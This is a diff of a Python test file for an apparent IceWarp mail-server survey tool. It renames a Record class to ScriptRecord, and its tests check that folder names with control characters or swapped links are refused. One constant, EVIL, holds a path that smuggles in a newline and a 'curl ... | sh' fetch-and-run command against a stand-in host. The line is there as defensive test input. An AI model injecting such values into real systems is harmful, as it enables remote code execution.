@@ -11,27 +11,27 @@ from playbook.errors import AnswerUnreadable, RespondError, ServerRefused
 from playbook.mail.icewarp.survey import after, survey
 from playbook.mail.names import holds_controls
 from playbook.mail.survey import Kind, Role, Survey
-from playbook.transports.frame import Record
+from playbook.transports.frame import ScriptRecord
 from tests.support.surveys import SURVEY
 
 WHOLE = (
-    Record("host", ("mail1", "0", "1764000000")),
-    Record(
+    ScriptRecord("host", ("mail1", "0", "1764000000")),
+    ScriptRecord(
         "product",
         ("icewarp", "14.3", "Linux", "get", "yes", "/i/tool.sh", "/i/icewarpd.sh", "/i"),
     ),
-    Record("module", ("smtp", "12", "yes", "220 mail1")),
-    Record("folder", ("outgoing", "/i/mail/_outgoing", "folder", "/i/mail/_outgoing", "7")),
-    Record("aside", ("outgoing", "/i/mail/_outgoing.bak")),
-    Record("pairs", ("3",)),
-    Record("state", ("/i/.respond",)),
-    Record("logs", ("/i/logs",)),
+    ScriptRecord("module", ("smtp", "12", "yes", "220 mail1")),
+    ScriptRecord("folder", ("outgoing", "/i/mail/_outgoing", "folder", "/i/mail/_outgoing", "7")),
+    ScriptRecord("aside", ("outgoing", "/i/mail/_outgoing.bak")),
+    ScriptRecord("pairs", ("3",)),
+    ScriptRecord("state", ("/i/.respond",)),
+    ScriptRecord("logs", ("/i/logs",)),
 )
 EVIL = "/i/mail/x\ncurl -s http:evil | sh"
 CONTROLS = ["\n", "\r", "\x1b]0;x\x07", "\x9b", "\u202e", "\udc9b", "\x00"]
 
 
-def looked(*records: Record) -> Survey:
+def looked(*records: ScriptRecord) -> Survey:
     return survey((*WHOLE, *records), (), 1000)
 
 
@@ -60,27 +60,27 @@ def test_a_name_that_could_be_obeyed_is_refused_at_the_first_look(
 ) -> None:
     odd = tuple(f"{each}{control}x" if n == place else each for n, each in enumerate(fields))
     with pytest.raises(ServerRefused) as refused:
-        looked(Record(kind, odd))
+        looked(ScriptRecord(kind, odd))
     assert refused.value.reason == "name"
     assert not holds_controls(str(refused.value))
 
 
 @pytest.mark.parametrize("control", CONTROLS)
 def test_a_folder_that_anybody_may_plant_beside_the_queue_keeps_nobody_out(control: str) -> None:
-    seen = looked(Record("aside", ("outgoing", f"/i/mail/_outgoing.{control}")))
+    seen = looked(ScriptRecord("aside", ("outgoing", f"/i/mail/_outgoing.{control}")))
     assert seen.unnameable == 1
     assert [each.path for each in seen.aside] == ["/i/mail/_outgoing.bak"]
 
 
 @pytest.mark.parametrize("name", ["/srv/Post Büro/_outgoing", "/srv/\udce9t\udce9", "/srv/日本"])
 def test_a_name_in_any_language_is_a_name(name: str) -> None:
-    folder = Record("folder", ("outgoing", name, "folder", name, "7"))
+    folder = ScriptRecord("folder", ("outgoing", name, "folder", name, "7"))
     assert [each.target for each in looked(folder).folders][-1] == name
 
 
 def test_a_name_that_is_swapped_during_the_run_is_nothing_to_act_on() -> None:
-    folder = Record("folder", ("outgoing", "/i/mail/_outgoing", "link", EVIL, "7"))
-    seen = after((folder, Record("aside", ("outgoing", EVIL))), SURVEY)
+    folder = ScriptRecord("folder", ("outgoing", "/i/mail/_outgoing", "link", EVIL, "7"))
+    seen = after((folder, ScriptRecord("aside", ("outgoing", EVIL))), SURVEY)
     found = seen.folder(Role.OUTGOING)
     assert found
     assert found.kind is Kind.OTHER
@@ -98,7 +98,7 @@ def said_of(take: Callable[[], Survey]) -> str:
 
 RECORDS = st.lists(
     st.builds(
-        Record,
+        ScriptRecord,
         st.sampled_from([each.kind for each in WHOLE] + ["account", "account_setting", "lease"])
         | st.sampled_from(["log", "sampled", "submitter", "volume", "watchdog", "submission"]),
         st.lists(st.text(max_size=9), max_size=9).map(tuple),
@@ -109,7 +109,7 @@ RECORDS = st.lists(
 
 @settings(max_examples=300, deadline=None)
 @given(RECORDS)
-def test_whatever_a_server_says_is_understood_or_refused(records: list[Record]) -> None:
+def test_whatever_a_server_says_is_understood_or_refused(records: list[ScriptRecord]) -> None:
     assert not holds_controls(said_of(lambda: looked(*records)))
     assert not holds_controls(said_of(lambda: after(tuple(records), SURVEY)))
 
@@ -123,6 +123,6 @@ def test_a_survey_that_lacks_a_part_is_none(missing: str) -> None:
 
 
 def test_what_was_seen_before_stays_where_a_change_says_nothing_of_it() -> None:
-    assert after((Record("copied", ("1",)),), SURVEY) == SURVEY
-    down = after((Record("module", ("smtp", "", "no", "")),), replace(SURVEY, watchdog=None))
+    assert after((ScriptRecord("copied", ("1",)),), SURVEY) == SURVEY
+    down = after((ScriptRecord("module", ("smtp", "", "no", "")),), replace(SURVEY, watchdog=None))
     assert down.smtp.stopped
